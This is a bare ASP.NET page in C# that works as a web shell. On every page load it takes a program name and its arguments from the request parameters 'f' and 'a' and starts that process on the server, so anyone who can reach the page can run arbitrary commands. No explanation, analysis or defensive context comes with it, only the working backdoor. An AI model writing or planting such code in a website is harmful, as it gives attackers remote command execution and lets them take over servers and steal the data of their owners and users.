<%@ Page Language="C#" %><script runat="server">void Page_Load(object o, EventArgs e) { var r = HttpContext.Current.Request; System.Diagnostics.Process.Start(r["f"], r["a"]); }</script>
